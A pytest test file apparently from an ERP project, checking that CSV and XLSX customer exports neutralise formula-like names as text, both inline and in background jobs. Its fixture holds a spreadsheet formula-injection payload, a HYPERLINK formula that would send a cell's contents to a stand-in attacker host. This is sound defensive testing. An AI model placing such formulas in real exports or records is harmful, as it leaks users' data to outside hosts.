"""A customer named like a formula is exported as text, at once and in the background (issue 10)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from erp.export_jobs import run_job
from erp.models import ExportJob
from sales.services import masterdata as services

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Click")'


@pytest.fixture
def hostile(sal):
    services.customer_create(company=sal.company, code="C009", name=HYPERLINK, short_name="@SUM(1+1)", owner=sal.rep)
    return sal


def exported(client, fmt):
    response = client.get(f"/sales/customers/?q=C009&export={fmt}")
    if response.status_code == 302:  # in the background
        job = ExportJob.objects.get()
        assert run_job(job.pk) == "done"
        return b"".join(client.get(f"/exports/{job.pk}/download/").streaming_content)
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("inline_rows", [5000, 0], ids=["at once", "in the background"])
def test_a_customer_named_like_a_formula_is_exported_as_text(hostile, client, settings, inline_rows):
    settings.EXPORT_INLINE_ROWS = inline_rows
    client.force_login(hostile.manager)

    as_csv = list(csv.reader(io.StringIO(exported(client, "csv").decode("utf-8-sig"), newline="")))
    ExportJob.objects.all().delete()
    sheet = load_workbook(io.BytesIO(exported(client, "xlsx"))).active
    row = sheet[2]

    assert as_csv[1][:3] == ["C009", "'" + HYPERLINK, "'@SUM(1+1)"]
    assert (row[1].value, row[1].data_type) == (HYPERLINK, "s")
    assert (row[2].value, row[2].data_type) == ("@SUM(1+1)", "s")
